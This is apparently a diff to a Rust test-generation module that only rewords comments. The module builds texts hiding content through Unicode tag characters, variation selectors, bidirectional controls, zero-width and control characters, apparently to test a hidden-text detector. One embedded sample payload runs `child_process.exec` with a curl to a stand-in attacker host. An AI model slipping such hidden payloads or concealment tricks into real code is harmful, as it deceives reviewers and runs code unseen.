@@ -1,15 +1,15 @@
-//! Files that hide something, made here.
+//! The attacks: texts that hide something, made here.
 
-/// One of them.
+/// A text that hides something.
 pub(super) struct Attack {
     pub(super) group: &'static str,
     pub(super) extension: &'static str,
     pub(super) text: String,
-    /// What a decoder should say, as JSON has it; empty where nothing is coded.
+    /// The expected output of a decoder, as JSON has it; empty where nothing is encoded.
     pub(super) payload: String,
 }
 
-/// A programming language: extension, start of a comment, a statement with a string around `{}`, one with an identifier that `{}` is in.
+/// A programming language: extension, start of a comment, a statement with a string around `{}`, and one with `{}` in an identifier.
 const LANGUAGES: [(&str, &str, &str, &str); 12] = [
     ("c", "// ", "const char *level = \"{}\";", "int total{}s = 1;"),
     ("cpp", "// ", "auto level = \"{}\";", "auto total{}s = 1;"),
@@ -42,7 +42,7 @@ fn coded(group: &'static str, text: String, payload: &str) -> Attack {
     Attack { group, extension: "md", text, payload: payload.to_owned() }
 }
 
-/// Text as the command's JSON has it between quotation marks.
+/// Text as it is between quotation marks in the command's JSON.
 fn json(bytes: &[u8]) -> String {
     let escaped = |c: char| match c {
         '"' | '\\' => format!("\\{c}"),
@@ -71,7 +71,7 @@ fn selector(byte: u8) -> char {
     char::from_u32(if byte < 16 { 0xFE00 + value } else { 0xE0100 + value - 16 }).unwrap_or_default()
 }
 
-/// ASCII as tags: alone, between a language tag and a cancel tag, behind a flag, an emoji or a line's start; each character.
+/// ASCII as tag characters: alone, between a language tag and a cancel tag; after a flag, an emoji or the start of a line; each character.
 fn tags() -> Vec<Attack> {
     let hidden = as_tags(MESSAGE);
     let mut texts = Vec::new();
@@ -87,13 +87,13 @@ fn tags() -> Vec<Attack> {
     for byte in b' '..=b'~' {
         texts.push(coded("tags", format!("a{}b\n", tag(byte)), &json(&[byte])));
     }
-    // A character behind each letter.
+    // A tag character after each letter.
     let spread: String = MESSAGE.bytes().map(|byte| format!("x{}", tag(byte))).collect();
     texts.push(coded("tags", spread + "\n", &json(MESSAGE.as_bytes())));
     texts
 }
 
-/// Bytes as selectors, as halves of bytes, as bits; behind a letter, an emoji, an ideograph; each byte.
+/// Bytes as variation selectors: whole, as halves, as bits; after a letter, an emoji, an ideograph; each byte.
 fn selectors() -> Vec<Attack> {
     let mut texts = Vec::new();
     let code = b"require('child_process').exec('curl evil.example')";
@@ -110,7 +110,7 @@ fn selectors() -> Vec<Attack> {
         push(&bits);
         push(b"\x00\x10\xE0\xFF");
     }
-    // Each byte, twice: one may be a variant, two cannot be.
+    // Each byte twice: one selector may choose a variant, two cannot.
     for byte in 0..=255 {
         let hidden = [selector(byte), selector(byte)].iter().collect::<String>();
         texts.push(coded("variation selectors", format!("a{hidden}b\n"), &json(&[byte, byte])));
@@ -119,7 +119,7 @@ fn selectors() -> Vec<Attack> {
     texts
 }
 
-/// A payload in pieces: over lines, in comments of each language.
+/// A payload in pieces, over several lines and in comments of each language.
 fn split() -> Vec<Attack> {
     let mut texts = Vec::new();
     for (extension, comment, ..) in LANGUAGES {
@@ -138,7 +138,8 @@ fn split() -> Vec<Attack> {
     texts
 }
 
-/// Each control that opens, unclosed, in each place; those that close nothing; marks in text without right-to-left letters.
+/// Each opening bidirectional control without its end, in each place; closing controls without a start; marks in text
+/// without right-to-left letters.
 fn bidirectional() -> Vec<Attack> {
     let mut texts = Vec::new();
     let controls =
@@ -167,7 +168,7 @@ fn bidirectional() -> Vec<Attack> {
     texts
 }
 
-/// The shapes of the paper: code that looks like a comment, a comment that looks like code, a string that is longer than it looks.
+/// The attacks of the paper: code that looks like a comment, a comment that looks like code, a string that is longer than it looks.
 fn shapes() -> Vec<Attack> {
     let mut texts = Vec::new();
     for (extension, comment, string, statement) in LANGUAGES {
@@ -191,7 +192,7 @@ fn shapes() -> Vec<Attack> {
     texts
 }
 
-/// In identifiers and in words.
+/// Zero-width characters in identifiers and in words.
 fn zero_width() -> Vec<Attack> {
     let mut texts = Vec::new();
     let characters = "\u{200B}\u{200C}\u{200D}\u{2060}\u{2061}\u{2062}\u{2063}\u{2064}\u{FEFF}\u{34F}\u{115F}\u{1160}\u{17B4}\u{17B5}\u{180B}\
@@ -215,7 +216,7 @@ fn zero_width() -> Vec<Attack> {
     texts
 }
 
-/// C0 but tab and line ends, DEL, C1.
+/// The controls of C0 except tab and line ends, DEL, and those of C1.
 fn controls() -> Vec<Attack> {
     let all =
         ('\u{1}'..='\u{8}').chain('\u{B}'..='\u{C}').chain('\u{E}'..='\u{1F}').chain('\u{7F}'..='\u{9F}');
